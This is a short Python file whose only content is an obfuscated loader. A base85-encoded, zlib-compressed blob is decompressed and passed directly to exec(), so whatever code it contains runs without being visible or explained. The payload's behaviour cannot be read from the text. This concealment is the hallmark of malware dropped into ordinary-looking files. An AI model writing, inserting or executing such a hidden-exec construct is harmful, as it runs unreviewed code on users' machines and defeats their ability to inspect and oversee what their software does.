import base64
import zlib

_BLOB = 'c-m!7OA5j;5Z&h#&s_qw=vM4WLMW+CX)sMnnnFapyVEEtIGdSy^FCvzImCoyC&SuwKvTwgHgRY#VfD#GF4!MNJg29w*C&vQ^=80wy*cX*@5G6LDlbG@$lUb&o-u?7S0PqtVLiG6<Za{|EFPk$!kS1XRariiyu3WO8tFdi%;h-#n9@>Q?Er^!L$WiXsz9IV)urYjJ_bbbA(bSOQ<M9nl1GJIgYld5{-)ORY<$mUrV#aVi6*VlZ&&sNuGC$3'
exec(zlib.decompress(base64.b85decode(_BLOB)))
